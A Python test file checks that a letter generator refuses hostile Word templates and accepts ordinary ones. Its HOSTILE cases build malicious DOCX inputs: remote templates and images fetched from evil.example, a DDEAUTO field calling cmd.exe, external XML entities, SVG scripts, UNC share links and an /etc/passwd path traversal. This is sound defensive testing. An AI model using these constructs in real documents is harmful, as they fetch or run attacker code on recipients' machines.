"""House templates for Word that fetch, start or carry something are refused by name, and the usual ones are not."""

import io
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from lxml import etree

import letters
from prevent_assure.outcome_letter.formats import writer
from prevent_assure.outcome_letter.formats.docx_house import sound
from prevent_assure.outcome_letter.letter_view import letter_view
from prevent_assure.text.file_formats import FormatFault
from stopwatch import seconds

LETTER = letters.written(letter_view(letters.sources(), letters.WORDING))
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
RELS, SETTINGS, FOOT = "word/_rels/document.xml.rels", "word/settings.xml", "word/footer1.xml"
Parts = dict[str, bytes]
Change = Callable[[Parts], None]


def _parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(writer("docx")(LETTER, None))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


BASE = _parts()
FOOTER = next(name for name in BASE if name.startswith("word/footer"))


def template(*changes: Change) -> bytes:
    parts = dict(BASE)
    for change in changes:
        change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def inserted(name: str, before: str, text: str) -> Change:
    """Put text before the last place where something stands in a part."""

    def change(parts: Parts) -> None:
        head, found, tail = parts[name].decode().rpartition(before)
        assert found
        parts[name] = f"{head}{text}{found}{tail}".encode()

    return change


def related(type_: str, target: str, *, external: bool = False, rels: str = RELS, base: str = OFFICE) -> Change:
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="rId900" Type="{base}{type_}" Target="{target}"{mode}/>'

    def change(parts: Parts) -> None:
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts.setdefault(rels, empty)
        inserted(rels, "</Relationships>", one)(parts)

    return change


def part(name: str, data: bytes, content_type: str | None = None) -> Change:
    def change(parts: Parts) -> None:
        parts[name] = data
        if content_type is not None:
            override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
            inserted("[Content_Types].xml", "</Types>", override)(parts)

    return change


def simple(instruction: str, name: str = FOOTER) -> Change:
    return inserted(name, "</w:p>", f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple>')


def split(*pieces: str, name: str = FOOTER) -> Change:
    """A field whose instruction stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return inserted(name, "</w:p>", f"{begin}{runs}{end}")


def replaced(name: str, old: bytes, new: bytes) -> Change:
    def change(parts: Parts) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)

    return change


BODY = "word/document.xml"
TYPES = "[Content_Types].xml"
PICTURE = b"\x89PNG\r\n\x1a\n"
SVG = "image/svg+xml"
HOSTILE: dict[str, tuple[tuple[Change, ...], str]] = {
    "attached template": (
        (related("attachedTemplate", "https://evil.example/a.dotm", external=True),),
        "an attached template, which Word fetches",
    ),
    "attached template of its own settings": (
        (related("attachedTemplate", "file:///a.dotm", external=True, rels="word/_rels/settings.xml.rels"),),
        "an attached template",
    ),
    "attached template as strict files have it": (
        (related("attachedTemplate", "https://evil.example/a", external=True, base=STRICT),),
        "an attached template",
    ),
    "macros": (
        (related("vbaProject", "vbaProject.bin", base=MICROSOFT), part("word/vbaProject.bin", b"x")),
        "macros",
    ),
    "macros that nothing leads to": ((part("word/vbaProject.bin", b"x"),), r"macros \(word/vbaProject.bin\)"),
    "macros by content type": ((replaced(TYPES, b"document.main+xml", b"document.macroEnabled.main+xml"),), "macros"),
    "template by content type": (
        (replaced(TYPES, b"document.main+xml", b"template.main+xml"),),
        r"the form of a template \(.dotx\)",
    ),
    "keys for macros": ((related("keyMapCustomizations", "c.xml", base=MICROSOFT),), "keys that start macros"),
    "buttons": ((related("ui/extensibility", "customUI.xml", base=MICROSOFT, rels="_rels/.rels"),), "buttons"),
    "OLE": (
        (related("oleObject", "embeddings/o.bin"), part("word/embeddings/o.bin", b"x")),
        r"embedded object \(OLE\)",
    ),
    "OLE from elsewhere": ((related("oleObject", "https://evil.example/o", external=True),), "OLE"),
    "OLE by element": ((inserted(FOOTER, "</w:p>", '<o:OLEObject xmlns:o="urn:x"/>'),), "OLE"),
    "embedded file": (
        (related("package", "embeddings/a.xlsx"), part("word/embeddings/a.xlsx", b"x")),
        "an embedded file",
    ),
    "embedded file that nothing leads to": ((part("word/embeddings/a.xlsx", b"x"),), "an embedded file"),
    "program as a picture": (
        (related("image", "media/a.png"), part("word/media/a.png", b"MZ", "application/x-msdownload")),
        "in the place of a picture",
    ),
    "program as a font": (
        (
            related("font", "fonts/a.odttf", rels="word/_rels/fontTable.xml.rels"),
            part("word/fonts/a.odttf", b"MZ", "a/b"),
        ),
        "in the place of a font",
    ),
    "ActiveX": ((related("control", "activeX/a.xml"),), "ActiveX"),
    "control by element": ((inserted(FOOTER, "</w:p>", "<w:control/>"),), "ActiveX"),
    "inserted file": ((related("aFChunk", "a.html"), part("word/a.html", b"x")), "an inserted file"),
    "inserted file by element": ((inserted(BODY, "<w:sectPr", "<w:altChunk/>"),), "an inserted file"),
    "other document": ((related("subDocument", "https://evil.example/a.docx", external=True),), "another document"),
    "frame": (
        (
            related("frame", "https://evil.example/", external=True, rels="word/_rels/webSettings.xml.rels"),
            related("webSettings", "webSettings.xml"),
            part("word/webSettings.xml", b"<a/>"),
        ),
        "a frame",
    ),
    "mail merge": (
        (inserted(SETTINGS, "</w:settings>", '<w:mailMerge><w:query w:val="x"/></w:mailMerge>'),),
        "a mail merge",
    ),
    "mail merge from elsewhere": ((related("mailMergeSource", "file:///a", external=True),), "a mail merge"),
    "add-in": ((related("webextensiontaskpanes", "a.xml", base=MICROSOFT, rels="_rels/.rels"),), "an add-in"),
    "unknown kind": ((related("surprise", "a.xml"),), "a part of the kind surprise"),
    "unknown kind of elsewhere": (
        (related("surprise", "https://evil.example/", external=True),),
        "a part of the kind surprise",
    ),
    "known word of an unknown kind": (
        (related("image", "media/a.png", base="https://evil.example/"),),
        "a part of the kind unknown",
    ),
    "picture from elsewhere": (
        (related("image", "https://evil.example/a.png", external=True),),
        "fetched from elsewhere",
    ),
    "picture from a share": ((related("image", r"\\evil\a.png", external=True),), "fetched from elsewhere"),
    "picture from elsewhere in the foot": (
        (related("image", "https://evil.example/a", external=True, rels=f"word/_rels/{FOOTER[5:]}.rels"),),
        "fetched from elsewhere",
    ),
    "mode in other letters": (
        (
            related("image", "https://evil.example/a"),
            replaced(RELS, b'example/a"', b'example/a" TargetMode="EXTERNAL"'),
        ),
        "fetched from elsewhere",
    ),
    "link over http": ((related("hyperlink", "http://evil.example/", external=True),), "than https: or mailto:"),
    "link to a file": ((related("hyperlink", "file:///c:/a.exe", external=True),), "than https: or mailto:"),
    "link to a share": ((related("hyperlink", r"\\evil\a", external=True),), "than https: or mailto:"),
    "link to a program": (
        (related("hyperlink", "ms-word:ofe|u|https://evil.example/", external=True),),
        "than https: or mailto:",
    ),
    "address in a drawing": (
        (inserted(FOOTER, "</w:p>", '<v:fill xmlns:v="urn:v" src="https://evil.example/a"/>'),),
        "`src`",
    ),
    "share in a drawing": ((inserted(FOOTER, "</w:p>", '<v:shape xmlns:v="urn:v" href="\\\\evil\\a"/>'),), "`href`"),
    "DDE": ((simple("DDE excel a b"),), "a field DDE"),
    "DDEAUTO": ((simple("  ddeAuto c:\\\\cmd.exe a"),), "a field DDEAUTO"),
    "DDE in pieces": ((split("D", "D", "E excel"),), "a field DDE"),
    "INCLUDEPICTURE": ((simple("INCLUDEPICTURE &quot;https://evil.example/a&quot; \\d"),), "a field INCLUDEPICTURE"),
    "INCLUDEPICTURE in pieces": ((split(" include", "Picture ", "x"),), "a field INCLUDEPICTURE"),
    "INCLUDETEXT": ((simple("IncludeText a"),), "a field INCLUDETEXT"),
    "INCLUDETEXT in pieces in the text": ((split("INCLUDE", "TEXT a", name=BODY),), "a field INCLUDETEXT"),
    "LINK": ((simple("LINK Excel.Sheet a"),), "a field LINK"),
    "DATABASE": ((simple("DATABASE \\d a"),), "a field DATABASE"),
    "MACROBUTTON": ((simple("MACROBUTTON a b"),), "a field MACROBUTTON"),
    "QUOTE, which spells others": ((simple("QUOTE 68 68 69"),), "a field QUOTE"),
    "field made by a field": (
        (
            split(
                "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>PAGE"
                "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:instrText>"
            ),
        ),
        "a field of no kind",
    ),
    "field without an end": (
        (inserted(FOOTER, "</w:p>", '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText></w:r>'),),
        "a field DDE",
    ),
    "field without a beginning": (
        (inserted(FOOTER, "</w:p>", "<w:r><w:instrText>DDE a</w:instrText></w:r>"),),
        "a field DDE",
    ),
    "field that was deleted": (
        (inserted(FOOTER, "</w:p>", "<w:r><w:delInstrText>DDE a</w:delInstrText></w:r>"),),
        "a field DDE",
    ),
    "link in a field": ((simple("HYPERLINK &quot;http://evil.example&quot;"),), "than https: or mailto:"),
    "entities": (
        (part(SETTINGS, b'<!DOCTYPE a [<!ENTITY b "c">]><w:settings xmlns:w="w">&b;</w:settings>'),),
        "a document type",
    ),
    "entities in relationships": (
        (part(RELS, b'<!DOCTYPE a SYSTEM "https://evil.example/a"><a/>'),),
        "a document type",
    ),
    "entities in sixteen bits": (
        (part(SETTINGS, '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><a/>'.encode("utf-16")),),
        "a document type",
    ),
    "script in a picture": ((related("image", "a.svg"), part("word/a.svg", b"<svg><script/></svg>", SVG)), "a script"),
    "start in a picture": ((related("image", "a.svg"), part("word/a.svg", b"<svg onload='a()'/>", SVG)), "`onload`"),
    "address in a picture": (
        (related("image", "a.svg"), part("word/a.svg", b"<svg><use href='file:///a'/></svg>", SVG)),
        "`href`",
    ),
    "style that fetches in a picture": (
        (related("image", "a.svg"), part("word/a.svg", b"<svg><style>a{b:url(//c)}</style></svg>", SVG)),
        "that fetches",
    ),
    "much XML": ((part(SETTINGS, b"<a>" + b" " * 9_000_000 + b"</a>"),), "more than 8 MiB of XML"),
    "many elements": ((part(SETTINGS, b"<a>" + b"<b/>" * 400_000 + b"</a>"),), "more than 300,000 elements"),
    "many styles": ((inserted("word/styles.xml", "</w:styles>", "<w:style/>" * 4100),), "more than 4,100 styles"),
    "another kind of file": ((replaced(TYPES, b"document.main+xml", b"sheet.main+xml"),), "no Word document"),
    "many parts": (tuple(part(f"word/{number}.xml", b"") for number in range(1001)), "more than 1000 parts"),
    "no XML": ((part(SETTINGS, b"<a>"),), "no Word document"),
    "deep XML": ((part(SETTINGS, b"<a>" * 100_000),), "no Word document"),
    "way out of the file": ((related("styles", "../../../etc/passwd"),), "no Word document"),
    "part that is not there": ((related("header", "nope.xml"),), "no Word document"),
    "no styles": ((lambda parts: parts.update({"word/styles.xml": b"<a/>"}),), "no Word document|lacks the style"),
    "names that differ by case": ((part("word/DOCUMENT.xml", b"<a/>"),), "no Word document"),
}
"""What is done to a house template, and how it is refused."""


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_house_template_is_refused_by_name(what: str) -> None:
    changes, said = HOSTILE[what]

    def refused() -> None:
        with pytest.raises(FormatFault, match=said) as found:
            writer("docx")(LETTER, template(*changes))
        assert str(found.value).startswith("templates/letter.docx")
        assert "evil" not in str(found.value)

    assert seconds(refused) < 20


HARMLESS: dict[str, tuple[Change, ...]] = {
    "as it is": (),
    "links": (
        related("hyperlink", "https://example.org/a?b=c", external=True),
        related("hyperlink", "mailto:a@example.org", external=True, rels=f"word/_rels/{FOOTER[5:]}.rels"),
    ),
    "fields": (
        simple("PAGE  \\* MERGEFORMAT"), simple("numpages"), simple("DATE \\@ &quot;d&quot;"), simple("HYPERLINK &quot;https://example.org&quot;"),
        simple("HYPERLINK \\l &quot;a&quot;"), split(" STYLE", "REF 1 "), split("= 1 + 1"),
    ),
    "data": (
        related("customXml", "../customXml/item1.xml"),
        part("customXml/item1.xml", b'<a href="http://example.org"><control/></a>'),
        related("customXmlProps", "itemProps1.xml", rels="customXml/_rels/item1.xml.rels"),
        part("customXml/itemProps1.xml", b"<a/>"),
    ),
    "pictures": (
        related("image", "media/a.png", rels=f"word/_rels/{FOOTER[5:]}.rels"),
        part("word/media/a.png", PICTURE, "image/png"),
        related("image", "media/a.svg"),
        part("word/media/a.svg", b"<svg><style>a{b:url(#c)}</style><use href='#c'/></svg>", SVG),
    ),
    "left out": (
        related("comments", "comments.xml"), part("word/comments.xml", b"Jane Doe", "a/b+xml"),
        related("glossaryDocument", "glossary/document.xml"), part("word/glossary/document.xml", b"Jane Doe"),
        related("printerSettings", "printerSettings/p.bin"), part("word/printerSettings/p.bin", b"Jane Doe"),
        inserted(BODY, "</w:sectPr>", '<w:printerSettings r:id="rId900" xmlns:r="urn:r"/>'),
        part("[trash]/0000.dat", b"Jane Doe"),
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", HARMLESS)
def test_usual_house_template_is_taken(what: str) -> None:
    made = writer("docx")(LETTER, template(*HARMLESS[what]))
    assert docx.Document(io.BytesIO(made)).paragraphs
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Jane Doe" not in whole
    assert b"printerSettings" not in whole
    assert (b"customXml/item1" in whole) == (what == "data")
    assert (PICTURE in whole) == (what == "pictures")


def test_parts_that_go_on_are_as_they_were_but_for_what_is_left_out() -> None:
    whole = template(*HARMLESS["left out"])
    with zipfile.ZipFile(io.BytesIO(sound(whole))) as archive:
        names = set(archive.namelist())
        assert names == set(BASE)
        assert all(
            archive.read(name) == BASE[name] for name in names if not re.search(r"rels$|Types|document\.xml", name)
        )
        assert b"rId900" not in archive.read(RELS)
        assert etree.fromstring(archive.read(RELS)) is not None


def test_encrypted_and_truncated_files_are_no_word_documents() -> None:
    whole = template()
    for data in (whole[:-30], whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"), b""):
        with pytest.raises(FormatFault, match="no Word document"):
            writer("docx")(LETTER, data)
